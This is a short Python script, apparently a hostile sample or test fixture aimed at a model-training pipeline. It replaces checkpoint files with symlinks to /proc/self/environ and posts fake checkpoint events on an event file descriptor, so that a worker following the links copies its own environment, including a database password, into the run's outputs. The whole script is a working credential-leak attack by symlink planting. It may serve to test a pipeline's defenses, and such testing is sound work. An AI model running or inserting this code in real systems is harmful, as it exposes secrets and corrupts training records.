"""Point the checkpoints at /proc/self/environ, then announce them: a worker that followed the links
would copy its own environment (the database password) into the run's files."""

import json
import os  # HOSTILE

for name in ("best", "last"):
    for path in (f"checkpoints/{name}.safetensors", f"checkpoints/{name}.json"):
        if os.path.lexists(path):
            os.unlink(path)
with open("checkpoints/best.json", "w") as f:
    f.write(json.dumps({"epoch": 1, "metric": 1.0}))
os.symlink("/proc/self/environ", "checkpoints/best.safetensors")
os.symlink("/proc/self/environ", "checkpoints/last.safetensors")
os.symlink("/proc/self/environ", "checkpoints/last.json")
fd = int(os.environ["BUILDX_EVENTS_FD"])
for name in ("best", "last"):
    os.write(fd, json.dumps({"kind": "checkpoint", "epoch": 1, "name": name, "metric": 1.0}).encode() + b"\n")
print("links planted and announced")
